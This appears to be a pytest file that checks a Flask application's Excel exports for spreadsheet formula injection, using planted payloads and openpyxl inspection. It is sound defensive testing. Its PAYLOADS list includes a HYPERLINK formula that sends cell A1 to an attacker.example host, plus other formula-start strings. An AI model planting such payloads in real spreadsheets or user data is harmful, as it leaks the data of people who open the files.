"""Formula injection (issue 12, finding 7): no Excel file the application writes carries a formula.

One commune's ordinary business is planted with a marker in every free-text field (tracker/web/planting.py),
then every string column of every table holding the marker is overwritten with a payload a spreadsheet would
run ("=HYPERLINK(…)", "+1", "-2+3", "@SUM(A1)", a tab, a carriage return). Every Excel export of the app is
found, not listed: every GET route of the web and the API is called as the chairperson (and as a token), and
every CLI command that offers an "xlsx" format is run. Each workbook is opened with openpyxl: zero formula
cells, the payload is there as the very text typed (so the test is not vacuous), and every cell that begins
like a formula is marked "quote prefix" so that editing it in Excel keeps it text.
"""
from __future__ import annotations

import ast
import io
import itertools
from pathlib import Path

import click
import openpyxl
import pytest
from flask import Flask
from sqlalchemy import String
from sqlalchemy import Text
from sqlalchemy import func
from sqlalchemy import inspect
from sqlalchemy import select
from sqlalchemy import update

from tests.conftest import login
from tests.figures import record
from tests.web.planting import global_ids
from tests.web.planting import plant_unit
from tests.web.planting import seed_rules
from tracker.extensions import db
from tracker.services.operations.tokens import issue_token
from tracker.services.reports.periodic import build_report
from tracker.web.filters import local_today

MARK = "Qzxmarkqz"
PAYLOADS = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)",
            "=1+1", "\t=2+2", "\r=3+3")
# Every export the discovery must find (more may appear; each is checked all the same).
KNOWN_EXPORTS = {"reception.export_visits", "weekly.export_week", "reports.download", "cli report build"}
XLSX = "spreadsheetml"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula
ROOT = Path(__file__).resolve().parents[2] / "tracker"


def marked_columns() -> list[tuple[object, object, list[object]]]:
    """(table, column, primary keys) of every string cell holding the marker."""
    found = []
    inspector = inspect(db.engine)
    for table in db.metadata.sorted_tables:
        present = {c["name"] for c in inspector.get_columns(table.name)}  # the migrated schema, not the models
        pk = list(table.primary_key.columns)
        if len(pk) != 1 or table.name == "audit_log":  # the audit log is append-only (and never exported)
            continue
        for column in table.columns:
            if not isinstance(column.type, String | Text) or column.primary_key or column.name not in present:
                continue
            rows = db.session.execute(select(pk[0], column).where(func.lower(column).contains(MARK.lower())))
            # A JSON document kept as text (a report, a snapshot) is the app's own, not a field a user types.
            keys = [key for key, value in rows if not value.lstrip().startswith(("{", "["))]
            if keys:
                found.append((table, column, keys))
    db.session.rollback()
    return found


def plant_payload(columns: list[tuple[object, object, list[object]]], payload: str) -> None:
    for table, column, keys in columns:
        pk = next(iter(table.primary_key.columns))  # type: ignore[attr-defined]
        limit = column.type.length  # type: ignore[attr-defined]
        value = payload if not limit or len(payload) <= limit else payload[:limit]
        db.session.execute(update(table).where(pk.in_(keys)).values({column.name: value}))  # type: ignore[arg-type]
    db.session.commit()


def get_urls(app: Flask, ids: dict[str, object], period: str) -> list[tuple[str, str]]:
    """(endpoint, url) of every GET route, its arguments filled from the planted commune."""
    urls = []
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if "GET" not in (rule.methods or ()) or rule.rule.startswith(("/static", "/logout")):
            continue
        choices = {**{k: [v] for k, v in ids.items()}, "period": [period], "fmt": ["xlsx", "docx"],
                   "action": ["note"], "slug": ["chu-tich"]}
        args = sorted(rule.arguments)
        missing = [a for a in args if a not in choices]
        assert not missing, f"{rule.rule}: the test cannot fill {missing}"
        for combo in itertools.product(*(choices[a] for a in args)):
            path = rule.build(dict(zip(args, combo, strict=True)), append_unknown=False)[1]
            urls.append((str(rule.endpoint), path))
            if rule.rule.endswith(".xlsx"):
                urls.append((str(rule.endpoint), path + "?template=1"))
    return urls


def xlsx_commands(group: click.Group, prefix: str = "") -> list[tuple[str, click.Command]]:
    """Every CLI command with a format option offering "xlsx"."""
    found = []
    for name, command in sorted(group.commands.items()):
        full = f"{prefix} {name}".strip()
        if isinstance(command, click.Group):
            found += xlsx_commands(command, full)
        elif any(isinstance(p.type, click.Choice) and "xlsx" in p.type.choices for p in command.params):
            found.append((full, command))
    return found


def formula_problems(where: str, data: bytes, payload: str) -> tuple[list[str], int, bool]:
    """What is wrong with one workbook, how many cells it has, and whether the payload is in it."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    problems, cells, seen = [], 0, False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                cells += 1
                if cell.data_type == "f":
                    problems.append(f"{where}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix:
                    problems.append(f"{where}: {sheet.title}!{cell.coordinate} {cell.value!r} is not marked text")
                # the text as typed (a title may write it in capitals, before the rest of the heading)
                seen = seen or str(cell.value).strip().casefold().startswith(payload.strip().casefold())
    return problems, cells, seen


def test_no_excel_export_of_the_app_carries_a_formula(app: Flask, client, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    seed_rules()
    unit = plant_unit("XA-F", f"UBND xã {MARK}", text=MARK, prefix="f")
    today = local_today()
    period = str(today.year)
    build_report(unit.unit, period, today=today)
    ids: dict[str, object] = {**unit.ids, **global_ids(), **unit.codes, "note_id": unit.notes["chair"]}
    columns = marked_columns()
    assert len(columns) >= 15, f"the marker reached only {len(columns)} columns"
    web = app.test_client()
    assert login(web, "f_chair").status_code == 302
    token = {"Authorization": f"Bearer {issue_token('f_chair')}"}
    urls = get_urls(app, ids, period)
    commands = xlsx_commands(app.cli)
    runner = app.test_cli_runner()
    problems: list[str] = []
    exports: set[str] = set()
    workbooks = cells = 0
    for payload in PAYLOADS:
        plant_payload(columns, payload)
        books: list[tuple[str, bytes]] = []
        for endpoint, url in urls:
            response = (web if not url.startswith("/api/") else app.test_client()).get(
                url, headers=token if url.startswith("/api/") else {})
            if response.status_code >= 500:
                problems.append(f"{url} answered {response.status_code} with {payload!r}")
            if XLSX in (response.content_type or ""):
                books.append((f"{endpoint} {url}", response.get_data()))
                exports.add(endpoint)
            response.close()
        for name, _command in commands:
            out = tmp_path / f"{name.replace(' ', '-')}.xlsx"
            result = runner.invoke(args=[*name.split(), "--unit", unit.unit.code, "--period", period,
                                         "--format", "xlsx", "--output", str(out)])
            assert result.exit_code == 0, f"{name}: {result.output}"
            books.append((f"cli {name}", out.read_bytes()))
            exports.add(f"cli {name}")
        for where, data in books:
            found, count, seen = formula_problems(where, data, payload)
            problems += found
            workbooks += 1
            cells += count
            if not seen and "template=1" not in where:
                problems.append(f"{where}: the planted text {payload!r} is not in the workbook (a vacuous check)")
    assert KNOWN_EXPORTS <= exports, f"the discovery missed {KNOWN_EXPORTS - exports}"
    assert not problems, "\n".join(problems[:40]) + f"\n… {len(problems)} problems"
    record("excel_formulas", {"exports": sorted(exports), "payloads": len(PAYLOADS), "workbooks": workbooks,
                              "cells read": cells, "text columns planted": len(columns), "formula cells": 0},
           db.engine.dialect.name)


def test_every_module_that_builds_a_workbook_writes_through_the_one_helper() -> None:
    """A new Excel writer cannot bypass tracker.exports.cells: every module that imports openpyxl's Workbook
    also imports the helper, and none sets a cell's value or appends a row behind its back."""
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source or path.name == "cells.py" or "/imports/" in str(path):
            continue
        tree = ast.parse(source)
        imports_workbook = any(isinstance(n, ast.ImportFrom) and n.module == "openpyxl"
                               and any(a.name == "Workbook" for a in n.names) for n in ast.walk(tree))
        if not imports_workbook:
            continue
        if "from tracker.exports import cells" not in source:
            offenders.append(f"{path.relative_to(ROOT.parent)} builds a workbook without tracker.exports.cells")
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "cell" \
                    and any(k.arg == "value" for k in node.keywords):
                offenders.append(f"{path.relative_to(ROOT.parent)}:{node.lineno} sets a cell's value directly")
            if isinstance(node, ast.Assign) and any(isinstance(t, ast.Attribute) and t.attr == "value"
                                                    for t in node.targets):
                offenders.append(f"{path.relative_to(ROOT.parent)}:{node.lineno} assigns a cell's value directly")
    assert not offenders, "\n".join(offenders)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_helper_keeps_the_text_as_typed(payload: str) -> None:
    from tracker.exports import cells

    book = openpyxl.Workbook()
    cells.append(book.active, [payload, 7])
    out = io.BytesIO()
    book.save(out)
    cell = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)
